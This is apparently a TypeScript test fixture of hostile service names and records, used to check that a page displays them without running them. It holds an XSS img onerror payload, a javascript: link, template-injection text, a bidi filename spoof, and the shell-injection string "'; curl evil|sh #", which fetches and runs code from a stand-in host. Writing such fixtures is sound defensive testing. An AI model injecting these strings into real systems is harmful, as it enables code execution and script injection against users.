/** Names and texts of services that a page must show, and never run. */
export const hostileNames = [
  '<img src=x onerror="document.title=\'owned\'">',
  "'; curl evil|sh #",
  '\u202Egnissap\u202C exe.txt',
  'שלום עולם',
  '🎉'.repeat(127),
  '{{7*7}} <b>bold</b>',
] as const

/** One service of each name, with the same text in every field that takes free text. */
export const hostileServices = hostileNames.map((serviceName, at) => ({
  serviceName,
  version: '1.0.0',
  endpoint: `http://hostile-${at}:80`,
  description: serviceName,
  tags: [serviceName],
  capabilities: [serviceName],
  metadata: { owner: serviceName, link: "javascript:document.title='owned'", [serviceName]: serviceName },
  dependencies: hostileNames.filter((other) => other !== serviceName).slice(0, 2),
  instanceId: serviceName,
}))
